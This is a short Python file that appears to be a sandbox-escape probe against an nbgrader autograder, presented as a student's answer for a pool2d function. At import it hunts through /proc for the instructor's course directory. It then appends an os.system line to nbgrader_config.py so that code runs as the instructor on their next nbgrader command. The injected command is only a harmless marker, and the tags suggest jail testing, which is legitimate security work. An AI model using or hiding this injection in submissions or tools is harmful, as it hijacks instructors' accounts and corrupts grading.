# Find the course directory through /proc (the grader's cwd and environ), then append to the
# instructor's nbgrader_config.py: nbgrader executes that file, so this is code execution as the
# instructor on their next nbgrader command. Also tries the path itself, as a student who guessed it.
import errno, json, os
def _takeover():
    r, found = {}, set()
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError as e:
        pids, r["ls"] = [], errno.errorcode.get(e.errno)
    # Without a listing, guess: the grader started just before the keeper (getppid()) and the child.
    near = os.getppid() or os.getpid()
    for pid in pids + [str(p) for p in range(max(2, near - 300), near + 300)]:
        try:
            found.add(os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            env = open(f"/proc/{pid}/environ", "rb").read().split(b"\0")
            found.update(e[4:].decode() for e in env if e.startswith(b"PWD="))
        except OSError:
            pass
    r["found"] = "{COURSE}" in found
    here = os.getcwd()                 # (its own cwd, seen through /proc/self: not the course)
    for d in sorted(found - {here} | {"{COURSE}"}):
        try:
            with open(os.path.join(d, "nbgrader_config.py"), "a") as f:
                f.write("\nimport os; os.system('touch {COURSE}/PWNED')  # JAILTEST\n")
            r["cfg"] = "WROTE"
        except OSError as e:
            r.setdefault("cfg", errno.errorcode.get(e.errno))
    return r
def _merge(cell, call):
    """One short report (the message is cut): what the cell got, and what the call got where it differs."""
    return {k: cell.get(k) if cell.get(k) == call.get(k) else f"{cell.get(k)}/{call.get(k)}" for k in {**cell, **call}}
_first = _takeover()
def pool2d(X, pool_size, mode='max'):
    raise RuntimeError("JAILREPORT " + json.dumps(_merge(_first, _takeover())))
